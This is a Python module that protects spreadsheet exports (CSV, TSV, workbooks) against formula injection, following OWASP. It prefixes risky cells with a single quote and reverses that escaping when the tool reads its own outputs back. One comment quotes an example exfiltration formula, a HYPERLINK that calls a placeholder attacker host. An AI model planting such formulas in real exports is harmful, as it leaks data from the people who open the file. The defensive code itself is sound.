"""Formula-safe text cells (OWASP's "CSV injection"): CSV, TSV and workbook outputs are made to
be opened by sales reps in a spreadsheet, which runs a cell that starts with = + - @ as a
formula. Such a cell gets a leading single quote, which shows it as the text it is; revq takes
the quote off again when it reads one of its own outputs back (`revq changes`, `--leads`)."""

from __future__ import annotations

import re
from typing import TypeVar

import polars as pl

# OWASP's advice against CSV injection: Excel, LibreOffice and Google Sheets take a cell that
# starts with one of these for a formula (a tab or a carriage return may be stripped first), so
# a lead named =HYPERLINK("http://evil.example/?x="&A1) would run when a sales rep opens the list.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Text that is a plain number ("-12.5", "+1e3") is no formula: a column of amounts held as text
# reads the same in a spreadsheet escaped or not, so it stays as it is.
PLAIN_NUMBER = r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$"

TEXT_TYPES = (pl.String, pl.Categorical, pl.Enum)
FrameT = TypeVar("FrameT", pl.DataFrame, pl.LazyFrame)


def _formula_safe(name: str) -> pl.Expr:
    """A text column with a single quote before each cell a spreadsheet would run, as OWASP
    advises: the quote shows the cell as the text it is. Empty cells stay empty."""
    text = pl.col(name).cast(pl.String)
    # The first byte, compared as binary: far cheaper than a regex over every cell.
    first = text.cast(pl.Binary).bin
    signed = first.starts_with(b"+") | first.starts_with(b"-")
    runs = pl.any_horizontal([first.starts_with(c.encode()) for c in ("=", "@", "\t", "\r")])
    risky = runs | (signed & ~text.str.contains(PLAIN_NUMBER))
    return pl.when(risky).then(pl.concat_str(pl.lit("'"), text)).otherwise(text).alias(name)


def _safe_name(name: str) -> str:
    return (
        "'" + name if name.startswith(FORMULA_STARTS) and not re.match(PLAIN_NUMBER, name) else name
    )


def escape_formulas(frame: FrameT) -> FrameT:
    """The frame as a spreadsheet should get it: every text cell, and every column name, that
    would be read as a formula gets a leading single quote. Numbers, dates and booleans are
    not text and stay as they are (a negative amount is a number). Polars expressions over the
    text columns: a lazy frame stays lazy, and can be streamed."""
    schema = frame.collect_schema()
    text = [n for n, t in schema.items() if isinstance(t, TEXT_TYPES)]
    if text:
        frame = frame.with_columns(_formula_safe(n) for n in text)
    renamed = {n: _safe_name(n) for n in schema.names() if _safe_name(n) != n}
    if renamed and not set(renamed.values()) & set(schema.names()):
        frame = frame.rename(renamed)
    return frame


def _unescaped(name: str) -> pl.Expr:
    """The inverse of `_formula_safe`: the quote it added taken off, and no other."""
    text = pl.col(name)
    rest = text.str.slice(1)
    added = text.str.contains(r"^'[=+\-@\t\r]") & ~rest.str.contains(PLAIN_NUMBER)
    return pl.when(added).then(rest).otherwise(text).alias(name)


def unescape_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """A formula-safe output read back as it was before it was escaped: the text columns, and
    the column names, without the quote `escape_formulas` added. (A value that really began
    with a quote and a formula character reads back without its quote.)"""
    text = [n for n, t in frame.schema.items() if isinstance(t, pl.String)]
    if text:
        frame = frame.with_columns(_unescaped(n) for n in text)
    renamed = {n: n[1:] for n in frame.columns if n.startswith("'") and _safe_name(n[1:]) == n}
    if renamed and not set(renamed.values()) & set(frame.columns):
        frame = frame.rename(renamed)
    return frame
